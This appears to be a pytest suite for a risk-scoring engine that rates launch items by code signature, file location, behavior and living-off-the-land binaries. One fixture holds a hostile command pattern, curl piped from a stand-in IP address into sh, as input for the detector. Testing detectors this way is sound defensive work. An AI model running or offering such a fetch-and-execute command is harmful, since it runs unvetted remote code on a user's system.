"""
Tests for algorithm.risk_engine - RiskEngine
Tests base signals, analyzer aggregation, clamping, weights overrides, and enrichment.
"""

from __future__ import annotations

import json
from datetime import timedelta
from unittest.mock import MagicMock

import pytest

from algorithm.behavior import BehaviorAnalyzer
from algorithm.models import SignatureInfo, Severity, TrustLevel
from algorithm.risk_engine import RiskEngine, default_weights, tier_for_score
from conftest import NOW, make_item, signed_by_vendor


def _factor_names(assessment):
    return [f.factor for f in assessment.factors]


class TestRiskEngine:
    """Tests for RiskEngine.assess"""

    @pytest.fixture
    def engine(self):
        """Engine with default weights and a behavior analyzer that never touches the disk"""
        return RiskEngine(behavior=BehaviorAnalyzer(exists=lambda p: True))

    def test_clean_vendor_item_scores_zero(self, engine):
        """Test that a notarized, hardened vendor binary is low risk"""
        a = engine.assess(make_item(signature_info=signed_by_vendor()), now=NOW)
        assert a.score == 0
        assert a.severity == Severity.LOW
        assert a.factors == []

    def test_missing_signature_on_unsigned_trust(self, engine):
        """Test that unsigned trust without signature info counts as unsigned"""
        a = engine.assess(make_item(trust_level=TrustLevel.UNSIGNED), now=NOW)
        assert _factor_names(a) == ["unsigned"]
        assert a.score == 30
        assert a.severity == Severity.MEDIUM

    def test_unsigned_signature_info(self, engine):
        """Test that is_signed=False counts as unsigned and skips the other signature checks"""
        a = engine.assess(make_item(signature_info=SignatureInfo()), now=NOW)
        assert _factor_names(a) == ["unsigned"]

    def test_weak_signature_signals_add_up(self, engine):
        """Test invalid, ad-hoc and missing hardened runtime together"""
        sig = SignatureInfo(is_signed=True, is_valid=False, is_ad_hoc=True)
        a = engine.assess(make_item(signature_info=sig), now=NOW)

        assert _factor_names(a) == ["invalid_signature", "ad_hoc_signature", "no_hardened_runtime"]
        assert a.score == 20 + 15 + 5
        assert a.severity == Severity.MEDIUM

    def test_expired_certificate(self, engine):
        """Test that an expired signing certificate adds points"""
        sig = signed_by_vendor(certificate_expiration=NOW - timedelta(days=1))
        a = engine.assess(make_item(signature_info=sig), now=NOW)
        assert _factor_names(a) == ["expired_certificate"]

    def test_suspicious_location_and_behavior_both_count(self, engine):
        """Test that the location signal and the behavioral finding both contribute"""
        a = engine.assess(make_item(signature_info=signed_by_vendor(), executable_path="/tmp/x"), now=NOW)
        assert "suspicious_location" in _factor_names(a)
        assert "behavior" in _factor_names(a)
        assert a.score == 20 + 15

    def test_score_is_clamped_to_100(self, engine):
        """Test that a terrible item never exceeds 100"""
        item = make_item(
            trust_level=TrustLevel.SUSPICIOUS,
            signature_info=SignatureInfo(),
            executable_path="/tmp/curl",
            program_arguments=["/tmp/curl", "http://203.0.113.5", "|", "sh"],
            run_at_load=True,
            keep_alive=True,
            start_interval=10,
        )
        a = engine.assess(item, now=NOW)
        assert a.score == 100
        assert a.severity == Severity.CRITICAL
        assert a.lolbins

    def test_failing_analyzer_counts_as_zero(self):
        """Test that one analyzer blowing up doesn't break the assessment"""
        broken = MagicMock()
        broken.analyze.side_effect = RuntimeError("boom")
        engine = RiskEngine(behavior=broken)

        a = engine.assess(make_item(trust_level=TrustLevel.UNSIGNED), now=NOW)
        assert a.behavior is None
        assert a.score == 30


class TestWeights:
    """Tests for the weights override file"""

    def test_missing_file_uses_defaults(self, tmp_path):
        """Test that no override file means default weights"""
        engine = RiskEngine(weights_path=str(tmp_path / "nope.json"))
        assert engine.weights == default_weights()

    def test_invalid_file_uses_defaults(self, tmp_path):
        """Test that a broken override file is ignored"""
        path = tmp_path / "w.json"
        path.write_text("{not json", encoding="utf-8")
        assert RiskEngine(weights_path=str(path)).weights == default_weights()

    def test_overrides_merge_into_defaults(self, tmp_path):
        """Test that overrides replace scalars and shallow-merge nested dicts"""
        path = tmp_path / "w.json"
        path.write_text(json.dumps({"unsigned": 50, "bands": {"critical": 40}}), encoding="utf-8")
        engine = RiskEngine(weights_path=str(path))

        assert engine.weights["bands"] == {"medium": 30, "high": 60, "critical": 40}
        a = engine.assess(make_item(trust_level=TrustLevel.UNSIGNED), now=NOW)
        assert a.score == 50
        assert a.severity == Severity.CRITICAL

    def test_analyzer_scale_can_mute_an_analyzer(self, tmp_path):
        """Test that a zero scale removes an analyzer's contribution"""
        path = tmp_path / "w.json"
        path.write_text(json.dumps({"analyzer_scale": {"behavior": 0}}), encoding="utf-8")
        engine = RiskEngine(weights_path=str(path), behavior=BehaviorAnalyzer(exists=lambda p: True))

        a = engine.assess(make_item(signature_info=signed_by_vendor(), start_interval=10), now=NOW)
        assert "behavior" not in _factor_names(a)
        assert a.score == 0


class TestEnrich:
    """Tests for RiskEngine.enrich"""

    def test_enrich_returns_scored_copy(self):
        """Test that enrich fills the analysis snapshot without touching the original"""
        engine = RiskEngine(behavior=BehaviorAnalyzer(exists=lambda p: True))
        item = make_item(executable_path="/usr/bin/curl", run_at_load=True, trust_level=TrustLevel.UNSIGNED)

        scored = engine.enrich(item, now=NOW)

        assert item.risk_score is None
        assert scored is not item
        assert scored.risk_score is not None and scored.risk_score > 0
        assert scored.lolbins_risk == 20
        assert [f.title for f in scored.lolbins_detections] == ["curl"]
        assert scored.behavioral_anomalies is not None
        assert scored.intent_mismatches == []
        assert scored.age_anomalies == []
        assert scored.identifier == item.identifier


@pytest.mark.parametrize(
    "score,tier",
    [(0, Severity.LOW), (29, Severity.LOW), (30, Severity.MEDIUM), (59, Severity.MEDIUM),
     (60, Severity.HIGH), (79, Severity.HIGH), (80, Severity.CRITICAL), (100, Severity.CRITICAL)],
)
def test_tier_for_score_bands(score, tier):
    """Test the fixed tier bands"""
    assert tier_for_score(score) == tier
